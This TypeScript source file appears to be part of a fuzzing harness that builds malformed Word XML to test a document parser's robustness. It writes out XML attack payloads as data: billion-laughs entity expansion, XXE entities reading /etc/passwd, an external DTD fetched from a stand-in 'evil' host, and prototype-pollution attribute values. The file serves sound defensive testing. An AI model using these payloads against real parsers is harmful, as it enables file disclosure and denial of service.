/**
 * XML-level attacks on a seed's parts: deep nesting, enormous paragraphs, many tiny runs, DTDs with
 * entity expansion or external entities, broken encodings, unbalanced or shuffled tags, hostile
 * attribute values and broken content controls, tables and fields. `scale` (0–1] shrinks the big
 * ones for the quick run in jest; the long run uses 1.
 */

import { MAIN_PART, repack, text, utf8, withBody } from "./repack";
import type { Rng } from "./rng";
import type { SeedDoc } from "./seed-docs";
import { concat } from "./zip-writer";

export type XmlGenerator = (seed: SeedDoc, rng: Rng, scale: number) => Uint8Array;

const DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

/** Wrappers that can be nested: [open, close, content needed inside to stay valid]. */
export const NESTERS: readonly [string, string][] = [
  ["<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"],
  ["<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"],
  ["<w:customXml>", "</w:customXml>"],
  ["<w:smartTag>", "</w:smartTag>"],
  ["<x:y xmlns:x=\"urn:x\">", "</x:y>"],
  ["<w:p>", "</w:p>"],
  ["<w:r>", "</w:r>"],
  ['<w:fldSimple w:instr=" PAGE ">', "</w:fldSimple>"],
  ["<w:ins w:id=\"1\">", "</w:ins>"],
  ["<w:del w:id=\"1\">", "</w:del>"],
  ["<w:hyperlink>", "</w:hyperlink>"],
  ["<mc:AlternateContent><mc:Choice>", "</mc:Choice></mc:AlternateContent>"],
  ["<w:p><w:r><w:txbxContent>", "</w:txbxContent></w:r></w:p>"],
];

export const p = (t: string): string => `<w:p><w:r><w:t xml:space="preserve">${t}</w:t></w:r></w:p>`;

export function deepNesting(seed: SeedDoc, rng: Rng, scale: number): Uint8Array {
  const [open, close] = rng.pick(NESTERS);
  const depth = Math.max(10, Math.round(rng.pick([1000, 20_000, 100_000]) * scale));
  const inner = p("Biên bản sâu");
  // Unclosed by a level sometimes: deep and malformed at once.
  const closes = rng.chance(0.2) ? depth - 1 : depth;
  return withBody(seed.parts, open.repeat(depth) + inner + close.repeat(closes));
}

/**
 * Deep and wide at once: many paragraphs inside deep nesting, or a paragraph at every level. Work
 * proportional to depth × paragraphs (listing each paragraph in every enclosing cell or control)
 * would turn a few kilobytes into gigabytes.
 */
export function deepAndWide(seed: SeedDoc, rng: Rng, scale: number): Uint8Array {
  const [open, close] = rng.pick([...NESTERS.slice(0, 2), ['<w:sdt><w:sdtPr><w:tag w:val="t"/></w:sdtPr><w:sdtContent>', "</w:sdtContent></w:sdt>"]] as const);
  const n = Math.max(10, Math.round(rng.pick([2000, 10_000, 30_000]) * scale));
  const para = p("Đồng chí phát biểu.");
  const body = rng.chance(0.5) ? open.repeat(n) + para.repeat(n) + close.repeat(n) : (open + para).repeat(n) + close.repeat(n);
  return withBody(seed.parts, body);
}

/** Text patterns that stress the rules' regular expressions when repeated for megabytes. */
export const PATTERNS = [
  "Đồng chí Nguyễn Văn An phát biểu: ",
  "1/1/1/1/",
  "ngày 05 tháng 11 năm 2025, ",
  "14/14 đồng chí tán thành (100%), ",
  "a",
  " ",
  "\t",
  ":",
  "Có mặt: 17 đồng chí (chính thức 14, dự bị 03). ",
  "19 giờ 30 phút ",
  "I. II. III. ",
  "đ/c ",
  "Tổng số đảng viên: ",
  "(((((",
  "Nghị quyết số 01-NQ/CB ",
  "..........",
  "Ý kiến thảo luận: ",
  "%",
  "0",
  "Ð", // Latin capital eth, a homoglyph of Đ
];

export function enormousParagraph(seed: SeedDoc, rng: Rng, scale: number): Uint8Array {
  const target = Math.max(1000, Math.round(rng.pick([1, 3, 6]) * 1024 * 1024 * scale));
  const pattern = rng.chance(0.7) ? rng.pick(PATTERNS) : Array.from({ length: rng.range(1, 4) }, () => rng.pick(PATTERNS)).join("");
  const repeated = pattern.repeat(Math.ceil(target / pattern.length)).replace(/&/g, "&amp;").replace(/</g, "&lt;");
  const where = rng.int(3);
  const big = p(repeated);
  const body = text(seed.parts[MAIN_PART]);
  const inner = body.slice(body.indexOf("<w:body>") + 8, body.lastIndexOf("</w:body>"));
  // Alone, first (where the header is looked for) or in the middle of the real document.
  if (where === 0) return withBody(seed.parts, big);
  if (where === 1) return withBody(seed.parts, big + inner);
  const cut = inner.indexOf("</w:p>", inner.length >> 1);
  return withBody(seed.parts, cut < 0 ? inner + big : inner.slice(0, cut + 6) + big + inner.slice(cut + 6));
}

export function manySmallThings(seed: SeedDoc, rng: Rng, scale: number): Uint8Array {
  const n = Math.max(10, Math.round(rng.pick([10_000, 100_000, 200_000]) * scale));
  const kind = rng.int(5);
  const chars = "ĐảngviênChibộ 0123456789:/.,";
  const parts: string[] = [];
  if (kind === 0) {
    // One paragraph of many one-character runs.
    parts.push("<w:p>");
    for (let i = 0; i < n; i++) parts.push(`<w:r><w:t xml:space="preserve">${chars[i % chars.length]}</w:t></w:r>`);
    parts.push("</w:p>");
  } else if (kind === 1) {
    for (let i = 0; i < n; i++) parts.push(i % 7 === 0 ? "<w:p/>" : p(`Đồng chí ${i}: nhất trí.`));
  } else if (kind === 2) {
    for (let i = 0; i < n / 10; i++) parts.push(`<w:tbl><w:tr><w:tc>${p(String(i))}</w:tc></w:tr></w:tbl>`);
  } else if (kind === 3) {
    for (let i = 0; i < n / 10; i++) parts.push(`<w:sdt><w:sdtPr><w:tag w:val="t${i}"/></w:sdtPr><w:sdtContent>${p("x")}</w:sdtContent></w:sdt>`);
  } else {
    // Many fields opened and never closed.
    parts.push("<w:p>");
    for (let i = 0; i < n; i++) parts.push('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r>');
    parts.push("</w:p>");
  }
  return withBody(seed.parts, parts.join(""));
}

/** DTDs: billion laughs, quadratic blow-up, external entities, parameter entities. */
export function doctype(seed: SeedDoc, rng: Rng): Uint8Array {
  const kind = rng.int(5);
  let dtd: string;
  let ref: string;
  if (kind === 0) {
    const lol = ['<!ENTITY lol0 "lol">'];
    for (let i = 1; i < 10; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
    dtd = `<!DOCTYPE w:document [${lol.join("")}]>`;
    ref = "&lol9;";
  } else if (kind === 1) {
    dtd = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
    ref = "&xxe;";
  } else if (kind === 2) {
    dtd = '<!DOCTYPE w:document [<!ENTITY % ext SYSTEM "http://example.invalid/evil.dtd"> %ext;]>';
    ref = "&evil;";
  } else if (kind === 3) {
    dtd = `<!DOCTYPE w:document [<!ENTITY a "${"x".repeat(50_000)}">]>`;
    ref = "&a;".repeat(50_000);
  } else {
    dtd = '<!DOCTYPE w:document SYSTEM "file:///etc/passwd">';
    ref = "&passwd;";
  }
  // Where the DTD goes: the main part, or a part read before it (relationships, styles).
  const partName = rng.pick([MAIN_PART, MAIN_PART, "word/_rels/document.xml.rels", "word/styles.xml", "_rels/.rels", "word/header1.xml", "word/comments.xml"]);
  const original = text(seed.parts[partName]) || `<w:document xmlns:w="${W}"><w:body/></w:document>`;
  const withoutDecl = original.replace(/^\s*<\?xml[^>]*\?>/, "");
  let xml = `${DECL}${dtd}${withoutDecl}`;
  if (partName === MAIN_PART) xml = xml.replace("<w:body>", `<w:body>${p(ref)}`);
  return repack(seed.parts, { [partName]: utf8(xml) });
}

/** Encodings: invalid UTF-8, UTF-16 with and without a BOM, odd lengths, NULs, hostile references. */
export function encoding(seed: SeedDoc, rng: Rng): Uint8Array {
  const partName = rng.chance(0.7) ? MAIN_PART : rng.pick(Object.keys(seed.parts));
  const original = seed.parts[partName] ?? new Uint8Array(0);
  const xml = text(original);
  const kind = rng.int(7);
  let out: Uint8Array;
  if (kind === 0) {
    // Invalid UTF-8 sequences sprinkled over the part.
    out = original.slice();
    const bad = [0xc0, 0xc1, 0xf5, 0xff, 0xfe, 0x80, 0xed];
    for (let n = rng.range(1, 20); n > 0 && out.length > 0; n--) out[rng.int(out.length)] = rng.pick(bad);
  } else if (kind === 1 || kind === 2) {
    // UTF-16 with a BOM (allowed by OPC), little or big endian, sometimes an odd byte at the end.
    const le = kind === 1;
    const body = new Uint8Array(2 + xml.length * 2 + (rng.chance(0.3) ? 1 : 0));
    body[0] = le ? 0xff : 0xfe;
    body[1] = le ? 0xfe : 0xff;
    for (let i = 0; i < xml.length; i++) {
      const c = xml.charCodeAt(i);
      body[2 + 2 * i] = le ? c & 0xff : c >>> 8;
      body[3 + 2 * i] = le ? c >>> 8 : c & 0xff;
    }
    out = body;
  } else if (kind === 3) {
    // UTF-16 without a BOM: read as UTF-8, full of NULs.
    out = new Uint8Array(xml.length * 2);
    for (let i = 0; i < xml.length; i++) out[2 * i] = xml.charCodeAt(i) & 0xff;
  } else if (kind === 4) {
    out = concat([new Uint8Array([0xef, 0xbb, 0xbf]), rng.chance(0.5) ? new Uint8Array([0xef, 0xbb, 0xbf]) : new Uint8Array(0), original]);
  } else if (kind === 5) {
    const refs = ["&#0;", "&#xD800;", "&#x110000;", "&#99999999999999999999;", "&#x;", "&#;", "&unknown;", "&amp", "&#xFFFE;", "&#65;", "&;", "&&&&&"];
    out = utf8(xml.replace(/<w:t([^>]*)>/g, (m) => (rng.chance(0.3) ? `${m}${rng.pick(refs)}` : m)));
  } else {
    const weird = ["\u0000", "\uFFFF", "\uD800", "\u202E", "\u200B", "\uFEFF", "\u0301\u0301\u0301"];
    out = utf8(xml.replace(/<w:t([^>]*)>/g, (m) => (rng.chance(0.3) ? `${m}${rng.pick(weird)}` : m)));
  }
  return repack(seed.parts, { [partName]: out });
}

const TOKEN = /<[^>]*>|[^<]+/g;

/** Token-level edits: delete, duplicate, move or cut tags, so elements open and close in the wrong places. */
export function shuffleTokens(seed: SeedDoc, rng: Rng): Uint8Array {
  const partName = rng.chance(0.75) ? MAIN_PART : rng.pick(Object.keys(seed.parts).filter((n) => n.endsWith(".xml") || n.endsWith(".rels")));
  const tokens = text(seed.parts[partName]).match(TOKEN) ?? [];
  for (let n = rng.range(1, 5); n > 0 && tokens.length > 0; n--) {
    const at = rng.int(tokens.length);
    const op = rng.int(5);
    if (op === 0) tokens.splice(at, 1);
    else if (op === 1) tokens.splice(rng.int(tokens.length + 1), 0, tokens[at] as string);
    else if (op === 2) tokens.splice(rng.int(tokens.length), 0, ...tokens.splice(at, 1));
    else if (op === 3) tokens[at] = (tokens[at] as string).slice(0, rng.int((tokens[at] as string).length));
    else tokens.length = at;
  }
  return repack(seed.parts, { [partName]: utf8(tokens.join("")) });
}

export const HOSTILE_VALUES = ["-1", "0", "99999999999999999999", "1e400", "NaN", "-0", "0x10", "", " ", "2147483648", "-2147483649",
  "4294967296", "1.5", "Infinity", "__proto__", "constructor", "toString", "x".repeat(10_000), "\u0000", "&amp;&lt;", "rIdH1", "rId1"];

/** Attribute values replaced by hostile ones (sizes, spans, ids, style names, fonts). */
export function hostileAttributes(seed: SeedDoc, rng: Rng): Uint8Array {
  const partName = rng.chance(0.6) ? MAIN_PART : rng.pick(Object.keys(seed.parts).filter((n) => n.endsWith(".xml") || n.endsWith(".rels")));
  const rate = rng.pick([0.01, 0.1, 0.5]);
  const xml = text(seed.parts[partName]).replace(/(\s[\w:]+=)("[^"]*"|'[^']*')/g, (m, name: string) =>
    rng.chance(rate) && !name.includes("xmlns") ? `${name}"${rng.pick(HOSTILE_VALUES).replace(/"/g, "&quot;")}"` : m,
  );
  return repack(seed.parts, { [partName]: utf8(xml) });
}

/** Broken constructs the reader tracks state for: content controls, tables, fields, comments, sections. */
export const BROKEN_SNIPPETS = [
  "<w:sdt><w:sdtPr><w:alias w:val=\"x\"/></w:sdtPr></w:sdt>",
  "<w:sdt><w:sdtContent></w:sdtContent><w:sdtContent>" + p("hai lần") + "</w:sdtContent></w:sdt>",
  "<w:sdtContent>" + p("không có sdt") + "</w:sdtContent>",
  "<w:tc>" + p("ô lạc") + "</w:tc>",
  "<w:tr><w:tc>" + p("hàng lạc") + "</w:tc></w:tr>",
  "<w:tbl></w:tbl>",
  "<w:tbl><w:tr></w:tr><w:tr><w:tc></w:tc></w:tr></w:tbl>",
  '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/><w:vMerge/></w:tcPr>' + p("x") + "</w:tc></w:tr></w:tbl>",
  '<w:tbl><w:tblGrid><w:gridCol w:w="-5"/></w:tblGrid><w:tr><w:tc><w:tcPr><w:vMerge w:val="continue"/></w:tcPr></w:tc></w:tr></w:tbl>',
  '<w:p><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r></w:p>',
  '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:t>mở mãi</w:t></w:r></w:p>',
  '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>DATE</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>',
  '<w:p><w:commentRangeStart w:id="999"/><w:r><w:commentReference w:id="-1"/></w:r></w:p>',
  '<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="rId1"/></w:sectPr></w:pPr></w:p>',
  '<w:sectPr><w:headerReference w:type="first" r:id="rIdNope"/><w:footerReference r:id=""/><w:pgSz w:w="-1" w:h="abc"/></w:sectPr>',
  '<w:p><w:r><w:sym w:font="Wingdings" w:char="ZZZZ"/><w:sym/></w:r></w:p>',
  '<w:p><w:pPr><w:numPr><w:ilvl w:val="99999"/><w:numId w:val="-3"/></w:numPr></w:pPr></w:p>',
  '<w:p><w:pPr><w:pStyle w:val="KhôngCó"/></w:pPr><w:r><w:rPr><w:rStyle w:val="__proto__"/><w:sz w:val="-100"/></w:rPr><w:t>x</w:t></w:r></w:p>',
  "<w:txbxContent>" + p("hộp lạc") + "</w:txbxContent>",
  "<mc:AlternateContent><mc:Fallback>" + p("chỉ có fallback") + "</mc:Fallback></mc:AlternateContent>",
  "<mc:Choice>" + p("choice lạc") + "</mc:Choice>",
  "<w:p><w:p>" + p("đoạn trong đoạn") + "</w:p></w:p>",
  "<w:r><w:t>chạy ngoài đoạn</w:t></w:r>",
  "<w:t>chữ trần</w:t>",
  "<![CDATA[<w:p>không phải thẻ</w:p>]]>",
  "<!-- chú thích -->",
  "<?pi dữ liệu?>",
];

export function brokenConstructs(seed: SeedDoc, rng: Rng): Uint8Array {
  const body = text(seed.parts[MAIN_PART]);
  let inner = body.slice(body.indexOf("<w:body>") + 8, body.lastIndexOf("</w:body>"));
  for (let n = rng.range(1, 6); n > 0; n--) {
    // Insert at a tag boundary so the rest stays well-formed.
    const boundaries: number[] = [];
    for (let i = inner.indexOf("<"); i >= 0 && boundaries.length < 5000; i = inner.indexOf("<", i + 1)) boundaries.push(i);
    const at = boundaries.length === 0 ? 0 : rng.pick(boundaries);
    inner = inner.slice(0, at) + rng.pick(BROKEN_SNIPPETS) + inner.slice(at);
  }
  return withBody(seed.parts, inner);
}

export const XML_GENERATORS: Readonly<Record<string, XmlGenerator>> = {
  deepNesting,
  deepAndWide,
  enormousParagraph,
  manySmallThings,
  doctype,
  encoding,
  shuffleTokens,
  hostileAttributes,
  brokenConstructs,
};
